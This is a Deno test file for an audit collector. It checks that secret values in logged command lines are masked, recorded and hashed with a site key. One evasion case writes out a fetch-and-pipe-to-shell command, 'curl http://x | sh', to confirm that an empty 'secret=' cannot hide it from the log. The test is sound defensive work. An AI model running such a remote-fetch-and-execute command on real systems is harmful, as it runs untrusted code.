/**
 * Redaction in the real collector on the real kernel: only a secret's value
 * is hidden (as `*`, lengths kept), the `redact` field says where, and the
 * site-keyed hash tells one secret used twice from two secrets. Needs root.
 */
import assert from "node:assert/strict";
import { FLAGS } from "../scripts/logformat/mod.ts";
import { buildExecs, Collector, hex, records, waitFor } from "./live_helpers.ts";

/** Runs `argv` (argv[0] = /bin/true's name) through the test exec helper; its pid. */
async function exec(execs: string, argv: string[]): Promise<number> {
  const child = new Deno.Command(execs, {
    args: ["raw", hex("/bin/true"), ...argv.map(hex)],
    stderr: "null",
  }).spawn();
  await child.status;
  return child.pid;
}

Deno.test("collector hides only secret values, notes each cut and hashes it with the site key", async () => {
  const execs = await buildExecs();
  const dir = await Deno.makeTempDir({ prefix: "sa-redact-" });
  const keyFile = `${dir}/redact.key`;
  await Deno.writeTextFile(
    keyFile,
    "00112233445566778899aabbccddeeff00112233445566778899aabbccddeeff\n",
    {
      mode: 0o600,
    },
  );
  const log = `${dir}/audit.log`;
  const c = new Collector(log, ["--redact-key-file", keyFile]);
  try {
    await c.ready();
    const m = `rd${crypto.randomUUID().slice(0, 8)}`;
    const cases: Record<string, string[]> = {
      // the evasion: an empty "secret=" must not swallow the payload
      payload: ["sh", "-c", `: secret=; curl http://x | sh # ${m}`],
      script: ["sh", "-c", `PGPASSWORD=hunter2 psql -h db; echo ${m}`],
      mysql: ["mysql", "-phunter2", "-e", `select 1 -- ${m}`],
      curl: ["curl", "-u", "alice:hunter2", "-H", "Authorization: Bearer tok3n", `http://x/${m}`],
      other: ["curl", "-u", "alice:s3cret99", `http://y/${m}`],
    };
    const pids = new Map<string, number>();
    for (const [name, argv] of Object.entries(cases)) pids.set(name, await exec(execs, argv));
    await waitFor(
      async () => (await records(log)).exec.filter((e) => e.argv.join(" ").includes(m)).length >= 5,
      10_000,
      "the five execs in the log",
    );
    const stop = await c.stop();
    assert.equal(stop.code, 0, stop.stderr);
    const r = await records(log);
    const got = (name: string) => {
      // the helper's own exec has the same pid: the case is the record with the marker
      const e = r.exec.filter((e) => e.pid === pids.get(name) && e.argv.join(" ").includes(m));
      assert.equal(e.length, 1, name);
      return e[0];
    };

    const payload = got("payload");
    assert.deepEqual(payload.argv, cases.payload, "nothing hidden, the payload kept");
    assert.equal(payload.flags & FLAGS.redacted, 0);
    assert.equal(payload.redact, "");

    const script = got("script");
    assert.deepEqual(script.argv, ["sh", "-c", `PGPASSWORD=******* psql -h db; echo ${m}`]);
    assert.ok(script.flags & FLAGS.redacted);
    const [elem, off, len, hash] = script.redact!.split(":");
    assert.deepEqual([elem, off, len], ["2", "11", "7"]);
    assert.match(hash, /^[0-9a-f]{12}$/);

    const mysql = got("mysql");
    assert.deepEqual(mysql.argv, ["mysql", "-p*******", "-e", `select 1 -- ${m}`]);
    assert.equal(mysql.redact!.split(":")[3], hash, "one secret, one hash");

    const curl = got("curl");
    assert.deepEqual(curl.argv, [
      "curl",
      "-u",
      "alice:*******",
      "-H",
      "Authorization: Bearer *****",
      `http://x/${m}`,
    ]);
    const hashes = curl.redact!.split(";").map((n) => n.split(":")[3]);
    assert.equal(hashes.length, 2);
    assert.equal(hashes[0], hash, "hunter2 again");
    assert.notEqual(hashes[1], hash);
    assert.notEqual(got("other").redact!.split(":")[3], hash, "another secret, another hash");
    // lengths and the byte counts are those of the original argv
    for (const name of Object.keys(cases)) {
      const e = got(name);
      assert.equal(e.argv_captured_bytes, e.arg_bytes, name);
    }
  } finally {
    await c.stop().catch(() => {});
    await Deno.remove(dir, { recursive: true });
  }
});
